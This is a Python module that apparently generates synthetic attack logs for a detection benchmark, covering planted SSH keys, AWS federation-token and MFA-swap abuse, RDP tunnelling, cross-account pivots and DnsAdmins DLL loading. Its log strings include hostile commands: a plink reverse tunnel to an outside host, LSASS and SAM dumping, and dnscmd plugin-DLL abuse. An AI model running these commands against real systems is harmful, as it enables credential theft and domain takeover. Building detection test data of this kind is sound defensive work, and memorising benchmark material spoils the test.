"""Round 23: attack kinds nobody on the team had written (``--attacks novel23``).

Opt-in by name or ``--attacks novel23``: no other group holds them, and each attack draws from
its own random stream, so every existing seed set generates byte-identical scenarios. Three are
slow credential misuse: a second ssh key planted in an engineer's ``authorized_keys`` and used
from a hosting address on later nights (syslog: the same account, a key fingerprint it never
showed); an engineer's long-term access key minting ``GetFederationToken`` sessions under
another name on several nights (CloudTrail; the parser names the federated user); and an AWS
console password and MFA code phished through a proxy, the victim's MFA device swapped for the
operator's own, then console sign-ins from abroad on later nights. Two are lateral movement: RDP
tunnelled through a web server (``plink -R``: a type 10 logon from 127.0.0.1) and on from there
to other servers (HELK Windows JSON), and a role session assuming the organisation's admin role
in other AWS accounts (``OrganizationAccountAccessRole``). Two are privilege abuse: user rights
(SeDebugPrivilege, SeBackupPrivilege) granted to an ordinary account on a server (4704; the
parser drops it and keeps the 4672 and 4688 that follow), and a DnsAdmins member making the DC's
DNS service load a DLL (``dnscmd /serverlevelplugindll``).
"""

from __future__ import annotations

import json
from typing import Any

from benchmarks.scenario.context import (
    ATTACKER_BROWSERS,
    AWS_KEY_ALPHABET,
    CREDENTIAL_MISUSE,
    LATERAL_MOVEMENT,
    PRIVILEGE_ABUSE,
    AttackKind,
    Context,
    Injected,
    aws_person,
    random_hex,
)
from benchmarks.scenario.formats import ADMIN_PRIVILEGES
from benchmarks.scenario.generator import (
    ADMIN,
    ENGINEER,
    MINUTE,
    OFFICE,
    Host,
    Person,
    assume_role,
    aws_source,
    console_agent,
    public_ip,
)

_SERVER_KINDS = ("app", "sql", "file", "web", "mgmt")
_CMD = "C:\\Windows\\System32\\cmd.exe"
_GO_SDK = "aws-sdk-go-v2/1.25.2 os/linux lang/go#1.22.0 md/GOOS#linux md/GOARCH#amd64 api/{api}"
_KEY_ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"


def _evening_after(ctx: Context, day: int, person: Person, t0: int) -> int:
    """``person``'s evening of ``day``, or of the next day when that is not after ``t0`` (their
    evening can fall before an admin's working day elsewhere, in UTC)."""
    t = ctx.evening(day, person)
    if t <= t0:
        t = ctx.evening(day + 1, person)
    return max(t, t0 + 30 * MINUTE)


# --------------------------------------------------------------------------------------------
# credential_misuse


def ssh_new_key_slow(ctx: Context) -> Injected:
    """From an engineer's compromised laptop (their usual key, over the VPN, in the evening) the
    operator appends a key of their own to the engineer's ``authorized_keys`` on the bastion;
    from two to six days later that key (a fingerprint the account never showed) logs in as the
    engineer from a hosting address on three or four nights over about a week, each time for a
    few minutes with ``sudo -l``."""
    world, rng, linux = ctx.world, ctx.rng, ctx.world.linux
    people = [p for p in ctx.org.humans if p.role == ENGINEER and p.uid and p.first_day == 0]
    victim = ctx.pick(people)
    day = ctx.day(10)
    t = ctx.evening(day, victim)
    linux.ssh_session(t, "bastion01", victim.sam, victim.uid, world.vpn_ip(rng), 6 * MINUTE,
                      key_fingerprint=victim.ssh_key, actor=victim.actor)  # fmt: skip
    planted = "".join(rng.choice(_KEY_ALPHABET) for _ in range(43))
    ip = public_ip(rng, "hosting")
    day = min(day + rng.randrange(2, 7), world.days - 1)  # at least one night in short runs
    nights, wanted = 0, rng.randrange(3, 5)
    while day < world.days and nights < wanted:
        t = ctx.night(day, victim)
        length = rng.randrange(3, 15) * MINUTE
        linux.ssh_session(t, "bastion01", victim.sam, victim.uid, ip, length,
                          key_fingerprint=planted, actor=victim.actor)  # fmt: skip
        linux.sudo(t + 30_000, "bastion01", victim.sam, victim.uid, "list", actor=victim.actor)
        nights += 1
        day += rng.randrange(1, 3)
    return Injected(
        f"a key planted in {victim.sam}'s authorized_keys (SHA256:{planted[:10]}..., never seen "
        f"for {victim.sam}) logs in to bastion01 from {ip} on {nights} night(s)",
        users=[victim.actor],
        hosts=["bastion01"],
        ips=[ip],
        primary=("user", victim.actor),
    )


def aws_federation_token_slow(ctx: Context) -> Injected:
    """An engineer's long-term access key (from a leaked CI log) mints federation sessions
    (``GetFederationToken`` with an allow-all policy and an innocuous name) from a residential
    address abroad with a Go SDK, on three or four nights over a week and a half; each session
    (a ``FederatedUser`` in CloudTrail, named after the token, not the engineer) lists buckets
    and reads a secret or two. Federation sessions outlive a key rotation by up to 36 hours and
    hide the key's owner from a search on the user's name."""
    world, rng, org, trail = ctx.world, ctx.rng, ctx.org, ctx.world.trail
    victim = aws_person(ctx, ENGINEER)
    user = trail.iam_user(victim.sam, victim.aws_principal, victim.aws_keys[0])
    name = rng.choice(("ci-cache", "build-agent", "sync-job", "metrics"))
    ip = public_ip(rng)
    policy = json.dumps(
        {
            "Version": "2012-10-17",
            "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}],
        }
    )
    federated: dict[str, Any] = {
        "type": "FederatedUser",
        "principalId": f"{org.aws_account}:{name}",
        "arn": f"arn:aws:sts::{org.aws_account}:federated-user/{name}",
        "accountId": org.aws_account,
        "sessionContext": {
            "sessionIssuer": {
                "type": "IAMUser",
                "principalId": victim.aws_principal,
                "arn": f"arn:aws:iam::{org.aws_account}:user/{victim.sam}",
                "accountId": org.aws_account,
                "userName": victim.sam,
            },
            "attributes": {"mfaAuthenticated": "false"},
        },
    }
    reads = [
        ("s3.amazonaws.com", "ListBuckets", None),
        ("secretsmanager.amazonaws.com", "ListSecrets", None),
        ("secretsmanager.amazonaws.com", "GetSecretValue", {"secretId": "prod/db"}),
        ("secretsmanager.amazonaws.com", "GetSecretValue", {"secretId": "prod/api-key"}),
        ("ssm.amazonaws.com", "DescribeParameters", None),
    ]
    day = ctx.day(11)
    nights, wanted, calls = 0, rng.randrange(3, 5), 0
    while day < world.days and nights < wanted:
        t = ctx.night(day, victim)
        key = "ASIA" + "".join(rng.choice(AWS_KEY_ALPHABET) for _ in range(16))
        trail.call(t, user, "sts.amazonaws.com", "GetFederationToken", ip=ip,
                   user_agent=_GO_SDK.format(api="sts#1.28.1"),
                   params={"name": name, "durationSeconds": 129600, "policy": policy},
                   response={"federatedUser": {"federatedUserId": f"{org.aws_account}:{name}",
                                               "arn": federated["arn"]},
                             "credentials": {"accessKeyId": key}},
                   actor=victim.actor)  # fmt: skip
        session = {**federated, "accessKeyId": key}
        for source, call, params in rng.sample(reads, rng.randrange(2, 4)):
            t += rng.randrange(10, 120) * 1000
            api = source.split(".", 1)[0] + "#1.30.0"
            trail.call(t, session, source, call, ip=ip, user_agent=_GO_SDK.format(api=api),
                       params=params, actor=victim.actor)  # fmt: skip
            calls += 1
        nights += 1
        day += rng.randrange(2, 4)
    return Injected(
        f"{victim.sam}'s long-term key mints federation sessions named {name} from {ip} on "
        f"{nights} night(s); the sessions make {calls} read(s)",
        users=[victim.actor, name],
        ips=[ip],
        primary=("user", victim.actor),
    )


def aws_mfa_device_swap(ctx: Context) -> Injected:
    """Adversary-in-the-middle phishing (an evilginx proxy on a hosting address) captures an
    engineer's AWS console password and MFA code at work: the proxied session creates a
    virtual MFA device, enables it for the engineer and deactivates the engineer's own; on
    three or four later nights the operator signs in to the console as the engineer, with
    their own MFA, from a residential address abroad, and browses through the engineer's role."""
    world, rng, org, trail = ctx.world, ctx.rng, ctx.org, ctx.world.trail
    victim = aws_person(ctx, ENGINEER, ADMIN)
    console_user = trail.iam_user(victim.sam, victim.aws_principal, "")
    proxy = public_ip(rng, "hosting")
    day = ctx.weekday(10)
    t = ctx.office_hours(day, victim)
    trail.console_login(t, console_user, ip=proxy, user_agent=victim.browser_ua, mfa=True,
                        actor=victim.actor)  # fmt: skip
    session = assume_role(world, victim, t + 8000, proxy, victim.browser_ua, rng)
    device = f"{victim.sam}-{random_hex(ctx, 4)}"
    serial = f"arn:aws:iam::{org.aws_account}:mfa/{device}"
    own = f"arn:aws:iam::{org.aws_account}:mfa/{victim.sam}"
    changes: list[tuple[str, dict[str, Any]]] = [
        ("CreateVirtualMFADevice", {"virtualMFADeviceName": device, "path": "/"}),
        ("EnableMFADevice", {"userName": victim.sam, "serialNumber": serial}),
        ("DeactivateMFADevice", {"userName": victim.sam, "serialNumber": own}),
    ]
    for call, params in changes:
        t += rng.randrange(15, 90) * 1000
        trail.call(t, session, "iam.amazonaws.com", call, ip=proxy,
                   user_agent=console_agent("iam.amazonaws.com"), params=params,
                   read_only=False, actor=victim.actor)  # fmt: skip
    ip = public_ip(rng)
    browser = rng.choice(ATTACKER_BROWSERS)
    day += rng.randrange(2, 5)
    nights, wanted = 0, rng.randrange(3, 5)
    while day < world.days and nights < wanted:
        t = ctx.night(day, victim)
        trail.console_login(t, console_user, ip=ip, user_agent=browser, mfa=True,
                            actor=victim.actor)  # fmt: skip
        session = assume_role(world, victim, t + 6000, ip, browser, rng)
        for source, call in rng.sample(victim.aws_calls, min(len(victim.aws_calls), 3)):
            t += rng.randrange(10, 120) * 1000
            trail.call(t, session, source, call, ip=ip, user_agent=console_agent(source),
                       actor=victim.actor)  # fmt: skip
        nights += 1
        day += rng.randrange(1, 3)
    return Injected(
        f"{victim.sam}'s console sign-in phished through {proxy}, MFA device {device} enabled "
        f"in place of theirs; console sign-ins from {ip} on {nights} night(s)",
        users=[victim.actor],
        ips=[proxy, ip],
        primary=("user", victim.actor),
    )


# --------------------------------------------------------------------------------------------
# lateral_movement


def rdp_loopback_tunnel(ctx: Context) -> Injected:
    """From a web shell on an internet-facing web server (the app pool account's ``w3wp``
    starts ``plink -R``), RDP is tunnelled in: an admin's stolen password logs on to the web
    server over RDP from 127.0.0.1 (the tunnel's end; the client's name is the operator's
    machine), and from that session ``mstsc`` goes on to one or two other servers (type 10
    from the web server's address), in the evening; again on a later evening."""
    world, rng, org, win = ctx.world, ctx.rng, ctx.org, ctx.world.win
    admin = ctx.pick(org.role(ADMIN))
    pool = org.person("svc_web")
    web = org.hosts[rng.choice([n for n in ("WEB01", "WEB02") if n in org.hosts])]
    operator = "kali" if rng.random() < 0.4 else "DESKTOP-" + random_hex(ctx, 7).upper()
    tunnel = Host(operator, operator, "127.0.0.1", "workstation", web.tz, 0, "", "")
    dc = org.dc_for(admin)
    day = ctx.day(5)
    evenings, reached = 0, []
    for _ in range(2):
        if day >= world.days:
            break
        t = ctx.evening(day, admin)
        plink = f"C:\\ProgramData\\{rng.choice(('update', 'iisx', 'w3'))}.exe"
        win.process(t - 60_000, web, pool, "0x3e7", plink,
                    f"{plink} -ssh -l tun -pw x -R 13389:127.0.0.1:3389 {public_ip(rng, 'hosting')}",
                    parent="C:\\Windows\\System32\\inetsrv\\w3wp.exe")  # fmt: skip
        session = win.logon(t, web, admin, 10, src=tunnel, privileges=ADMIN_PRIVILEGES)
        servers = [h for h in org.servers(*_SERVER_KINDS) if h is not web and h.since_day <= day]
        for host in rng.sample(servers, min(len(servers), rng.randrange(1, 3))):
            t += rng.randrange(2, 12) * MINUTE
            win.explicit_credentials(t - 300, web, admin, session, admin, host.fqdn,
                                     process="C:\\Windows\\System32\\mstsc.exe")  # fmt: skip
            win.tgs(t - 200, dc, admin, web.ip, host)
            hop = win.logon(t, host, admin, 10, src=web, privileges=ADMIN_PRIVILEGES)
            win.process(t + 40_000, host, admin, hop, "C:\\Windows\\System32\\whoami.exe",
                        "whoami /groups", parent=_CMD)  # fmt: skip
            win.logoff(t + rng.randrange(5, 25) * MINUTE, host, admin, hop, 10)
            reached.append(host.short)
        win.logoff(t + 30 * MINUTE, web, admin, session, 10)
        evenings += 1
        day += rng.randrange(1, 4)
    return Injected(
        f"RDP tunnelled into {web.name} (a type 10 logon from 127.0.0.1, client {operator}) as "
        f"{admin.sam} on {evenings} evening(s), then on to {', '.join(dict.fromkeys(reached))}",
        users=[admin.actor],
        hosts=[web.short, *dict.fromkeys(reached)],
        primary=("user", admin.actor),
    )


def aws_cross_account_pivot(ctx: Context) -> Injected:
    """An engineer's replayed role session, from a hosting address at night, lists the
    organisation's accounts and assumes ``OrganizationAccountAccessRole`` (the admin role AWS
    Organizations creates in every member account) in two or three of them, then looks around
    in each (instances, buckets, secrets). A central organisation trail records the calls made
    in the member accounts with those accounts' ids; on a second night it goes back to one."""
    world, rng, trail = ctx.world, ctx.rng, ctx.world.trail
    victim = aws_person(ctx, ENGINEER)
    day = ctx.day(4)
    t = ctx.night(day, victim)
    own = aws_source(world, victim, day, True, rng)
    session = assume_role(world, victim, t, own, victim.cli_ua, rng)
    ip = public_ip(rng, "hosting")
    members = sorted({str(rng.randrange(10**11, 10**12)) for _ in range(3)})
    t += rng.randrange(5, 40) * MINUTE
    trail.call(t, session, "organizations.amazonaws.com", "ListAccounts", ip=ip,
               user_agent=victim.cli_ua, actor=victim.actor)  # fmt: skip
    reads = [
        ("ec2.amazonaws.com", "DescribeInstances"),
        ("s3.amazonaws.com", "ListBuckets"),
        ("secretsmanager.amazonaws.com", "ListSecrets"),
        ("iam.amazonaws.com", "ListUsers"),
    ]
    home = trail.account
    visited: list[str] = []
    plan = rng.sample(members, rng.randrange(2, 4))
    plan.append(rng.choice(plan))  # back to one of them on a later night
    for k, member in enumerate(plan):
        if k == len(plan) - 1:
            day += rng.randrange(1, 4)
            if day >= world.days:
                break
            t = ctx.night(day, victim)
            session = assume_role(world, victim, t, own, victim.cli_ua, rng)
        t += rng.randrange(1, 6) * MINUTE
        role = f"arn:aws:iam::{member}:role/OrganizationAccountAccessRole"
        trail.call(t, session, "sts.amazonaws.com", "AssumeRole", ip=ip,
                   user_agent=victim.cli_ua,
                   params={"roleArn": role, "roleSessionName": victim.sam,
                           "durationSeconds": 3600},
                   response={"assumedRoleUser": {"arn": f"arn:aws:sts::{member}:assumed-role/"
                                                        f"OrganizationAccountAccessRole/{victim.sam}"}},
                   actor=victim.actor)  # fmt: skip
        key = "ASIA" + "".join(rng.choice(AWS_KEY_ALPHABET) for _ in range(16))
        trail.account = member  # the member account's records in the organisation trail
        try:
            remote = trail.assumed_role("OrganizationAccountAccessRole", "AROA" + random_hex(ctx, 17)
                                        .upper(), victim.sam, key, t, mfa=False)  # fmt: skip
            for source, call in rng.sample(reads, rng.randrange(2, 4)):
                t += rng.randrange(10, 90) * 1000
                trail.call(t, remote, source, call, ip=ip, user_agent=victim.cli_ua,
                           actor=victim.actor)  # fmt: skip
        finally:
            trail.account = home
        visited.append(member)
    return Injected(
        f"{victim.sam}'s role session (from {ip}) assumes OrganizationAccountAccessRole in "
        f"account(s) {', '.join(dict.fromkeys(visited))} and looks around there",
        users=[victim.actor],
        ips=[ip],
        primary=("user", victim.actor),
    )


# --------------------------------------------------------------------------------------------
# privilege_abuse


def user_right_debug_grant(ctx: Context) -> Injected:
    """An admin account (stolen, used from its owner's usual management path) grants
    SeDebugPrivilege and SeBackupPrivilege to an ordinary engineer on a server the engineer
    uses (``ntrights``: 4704 on the server, which the parser does not keep); that evening the
    engineer's account logs on to the server over RDP with those rights (4672) and dumps LSASS
    and the SAM hive."""
    rng, org, win = ctx.rng, ctx.org, ctx.world.win
    admin = ctx.pick(org.role(ADMIN))
    people = [p for p in org.humans if p.role in (ENGINEER, OFFICE) and p.first_day == 0]
    with_server = [p for p in people if p.servers and p.workstation_on(0) is not None]
    user = ctx.pick(with_server or people)
    names = sorted(s for s in user.servers if s in org.hosts and org.hosts[s].kind != "dc")
    server = org.hosts[rng.choice(names)] if names else rng.choice(org.servers("app", "sql"))
    day = ctx.weekday(2)
    mgmt = org.hosts.get("MGMT01", server)
    t = ctx.office_hours(day, admin)
    session = win.logon(t, server, admin, 3, src=mgmt, privileges=ADMIN_PRIVILEGES)
    for right in ("SeDebugPrivilege", "SeBackupPrivilege"):
        t += rng.randrange(5, 40) * 1000
        win.process(t, server, admin, session, "C:\\Tools\\ntrights.exe",
                    f"ntrights.exe -u {org.netbios}\\{user.sam} +r {right}",
                    parent=_CMD, elevated=True)  # fmt: skip
        fields = {
            "SubjectUserSid": admin.sid,
            "SubjectUserName": admin.sam,
            "SubjectDomainName": org.netbios,
            "SubjectLogonId": session,
            "TargetSid": user.sid,
            "PrivilegeList": right,
        }
        win.sink.win(t + 200, server, 4704, fields, actor=admin.actor)
    win.logoff(t + MINUTE, server, admin, session, 3)
    ws, _ = ctx.ws_ip(user, day)
    t = _evening_after(ctx, day, user, t)
    rights = "\r\n\t\t\t".join(("SeDebugPrivilege", "SeBackupPrivilege"))
    rdp = win.logon(t, server, user, 10, src=ws, privileges=rights)
    for image, line in (
        ("C:\\Users\\Public\\procdump64.exe", "procdump64.exe -accepteula -ma lsass.exe lsass.dmp"),
        ("C:\\Windows\\System32\\reg.exe", "reg save HKLM\\SAM C:\\Users\\Public\\sam.hiv"),
    ):
        t += rng.randrange(1, 5) * MINUTE
        win.process(t, server, user, rdp, image, line, parent=_CMD, elevated=True)
    win.logoff(t + rng.randrange(3, 15) * MINUTE, server, user, rdp, 10)
    return Injected(
        f"{admin.sam} grants SeDebugPrivilege and SeBackupPrivilege to {user.sam} on "
        f"{server.name}; {user.sam} then logs on there with them and dumps LSASS and SAM",
        users=[user.actor, admin.actor],
        hosts=[server.short, ws.short],
        primary=("user", user.actor),
    )


def dnsadmins_plugin_dll(ctx: Context) -> Injected:
    """An admin's stolen session adds an office user's account to DnsAdmins (4732 on a DC);
    later that evening, from the user's workstation, ``dnscmd DC /config /serverlevelplugindll
    \\\\WS\\share\\x.dll`` and ``sc \\\\DC stop dns`` / ``start dns``: the DNS server, running as
    SYSTEM on the DC, loads the DLL, which starts a command shell (a 4688 under dns.exe)."""
    rng, org, win = ctx.rng, ctx.org, ctx.world.win
    admin = ctx.pick(org.role(ADMIN))
    user = ctx.pick([p for p in org.humans if p.role == OFFICE and p.first_day == 0])
    day = ctx.weekday(1)
    dc = org.dc_for(user)
    ws, ip = ctx.ws_ip(user, day)
    mgmt = org.hosts.get("MGMT01", ws)
    t = ctx.office_hours(day, admin)
    session = win.logon(t, dc, admin, 3, src=mgmt, privileges=ADMIN_PRIVILEGES)
    win.group_member_added(t + 20_000, dc, admin, session, user, "DnsAdmins",
                           f"{win.domain_sid}-1101", scope="local")  # fmt: skip
    win.logoff(t + MINUTE, dc, admin, session, 3)
    t = _evening_after(ctx, day, user, t)
    desktop = win.new_logon_id()
    dll = f"\\\\{ws.name}\\share\\{rng.choice(('dnsprov', 'plugin', 'ddns'))}.dll"
    win.tgs(t - 400, dc, user, ip, dc)
    remote = win.logon(t, dc, user, 3, src=ws)
    for image, line in (
        (
            "C:\\Windows\\System32\\dnscmd.exe",
            f"dnscmd {dc.name} /config /serverlevelplugindll {dll}",
        ),
        ("C:\\Windows\\System32\\sc.exe", f"sc \\\\{dc.name} stop dns"),
        ("C:\\Windows\\System32\\sc.exe", f"sc \\\\{dc.name} start dns"),
    ):
        t += rng.randrange(10, 60) * 1000
        win.process(t, ws, user, desktop, image, line, parent=_CMD)
    shell = f"{_CMD} /c C:\\ProgramData\\{random_hex(ctx, 6)}.exe"
    win.process(t + 5000, dc, dc, "0x3e7", _CMD, shell,
                parent="C:\\Windows\\System32\\dns.exe", elevated=True)  # fmt: skip
    win.logoff(t + 2 * MINUTE, dc, user, remote, 3)
    return Injected(
        f"{admin.sam} adds {user.sam} to DnsAdmins; from {ws.name} {user.sam} sets the DNS "
        f"server plugin DLL on {dc.name} to {dll} and restarts DNS, which starts a shell",
        users=[user.actor, admin.actor],
        hosts=[dc.short, ws.short],
        ips=[ip],
        primary=("user", user.actor),
    )


NOVEL23: dict[str, AttackKind] = {
    kind.name: kind
    for kind in (
        AttackKind(
            "ssh_new_key_slow",
            CREDENTIAL_MISUSE,
            "SSH Authorized Keys: a key planted for an engineer, used on later nights",
            ("T1098.004", "T1078"),
            ssh_new_key_slow,
        ),
        AttackKind(
            "aws_federation_token_slow",
            CREDENTIAL_MISUSE,
            "Valid Accounts: federation sessions minted with a leaked access key",
            ("T1550.001", "T1078.004"),
            aws_federation_token_slow,
        ),
        AttackKind(
            "aws_mfa_device_swap",
            CREDENTIAL_MISUSE,
            "Device Registration: the victim's MFA device swapped, console used on later nights",
            ("T1098.005", "T1557", "T1078.004"),
            aws_mfa_device_swap,
        ),
        AttackKind(
            "rdp_loopback_tunnel",
            LATERAL_MOVEMENT,
            "Protocol Tunneling: RDP through a web server, then on to other servers",
            ("T1572", "T1021.001"),
            rdp_loopback_tunnel,
        ),
        AttackKind(
            "aws_cross_account_pivot",
            LATERAL_MOVEMENT,
            "Valid Accounts: OrganizationAccountAccessRole assumed in member accounts",
            ("T1550.001", "T1078.004"),
            aws_cross_account_pivot,
        ),
        AttackKind(
            "user_right_debug_grant",
            PRIVILEGE_ABUSE,
            "Access Token Manipulation: debug and backup rights granted to a user",
            ("T1134", "T1003.001"),
            user_right_debug_grant,
        ),
        AttackKind(
            "dnsadmins_plugin_dll",
            PRIVILEGE_ABUSE,
            "DnsAdmins abuse: the DC's DNS service loads a DLL",
            ("T1098", "T1574.002"),
            dnsadmins_plugin_dll,
        ),
    )
}
